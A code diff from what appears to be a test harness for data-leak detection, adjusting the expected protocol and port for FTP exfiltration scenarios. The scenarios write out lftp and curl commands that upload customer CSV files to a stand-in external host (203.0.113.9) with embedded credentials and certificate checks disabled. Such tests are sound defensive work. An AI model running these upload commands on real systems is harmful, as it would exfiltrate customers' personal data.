@@ -5,7 +5,7 @@ from content import Lookalikes, customers, customers_file
 from registry import Facts, scenario
 from scenarios_web import CURL
 
-FTP = {"app_proto": "ftp", "destination": "203.0.113.9", "user": "dana"}
+FTP = {"app_proto": "ftp-data", "destination": "203.0.113.9", "user": "dana"}
 LFTP_START = ("set net:timeout 10; set net:max-retries 2; set ftp:ssl-allow {tls}; set ssl:verify-certificate no; "
               "set ftp:passive-mode {passive}; set ftp:use-feat no; open -u dana,Winter2026 203.0.113.9; ")
 
@@ -40,8 +40,8 @@ def ftp_active(net, record):
     lftp(net, "put customers.csv", passive="no")
     net.office_do("curl", "-sS", "--max-time", "20", "-u", "dana:Winter2026", "-P", "10.20.0.7", "-T", second,
                   "ftp://203.0.113.9/eprt.csv")
-    facts = Facts().leak(customers(160, 311), ["STOR customers.csv"], port=20, **FTP)
-    return facts.leak(customers(110, 312), ["STOR eprt.csv"], port=20, **FTP)
+    facts = Facts().leak(customers(160, 311), ["STOR customers.csv"], port=None, **FTP)
+    return facts.leak(customers(110, 312), ["STOR eprt.csv"], port=None, **FTP)
 
 
 @scenario("ftps")
